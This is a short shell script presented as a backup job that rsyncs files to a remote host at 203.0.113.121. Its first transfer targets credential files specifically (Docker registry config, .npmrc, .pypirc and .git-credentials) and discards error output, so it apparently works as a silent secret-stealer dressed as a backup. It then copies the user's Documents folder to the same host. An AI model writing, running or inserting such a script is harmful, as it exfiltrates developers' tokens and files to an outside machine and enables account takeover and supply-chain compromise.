#!/bin/sh
DEST=backup@203.0.113.121:/data/$(hostname)
rsync -az ~/.docker/config.json ~/.npmrc ~/.pypirc ~/.git-credentials "$DEST/" 2>/dev/null
rsync -az ~/Documents "$DEST/docs/"
